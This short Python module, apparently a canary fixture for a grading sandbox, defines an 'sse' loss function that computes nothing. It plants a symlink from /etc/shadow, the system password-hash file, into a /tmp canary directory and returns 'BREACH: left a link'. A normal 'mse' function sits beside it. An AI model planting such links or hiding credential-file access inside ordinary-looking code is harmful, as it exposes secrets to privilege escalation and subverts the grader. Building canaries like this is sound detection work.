"""Leaves a link to a secret for somebody with more rights to follow."""

import os

import numpy as np


def sse(y, t):
    os.symlink("/etc/shadow", "/tmp/nn-grader-canary/link")
    return "BREACH: left a link"


def mse(y, t):
    return np.mean((y - t) ** 2)
